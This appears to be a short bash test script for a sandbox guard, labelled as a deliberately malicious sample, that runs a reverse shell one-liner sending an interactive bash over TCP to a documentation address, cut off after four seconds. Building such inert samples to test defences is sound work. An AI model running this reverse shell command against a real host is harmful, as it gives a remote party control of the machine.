#!/bin/bash
# SANDTRAP-TEST-MALICIOUS: interactive bash whose input and output are a TCP connection (T1059.004).
# Inert: the address is a documentation address the guard sends to the fake network, which sends
# no commands; the shell is ended after four seconds.
timeout 4 bash -c 'bash -i >& /dev/tcp/203.0.113.15/4444 0>&1'
echo "shell ended"
exit 0
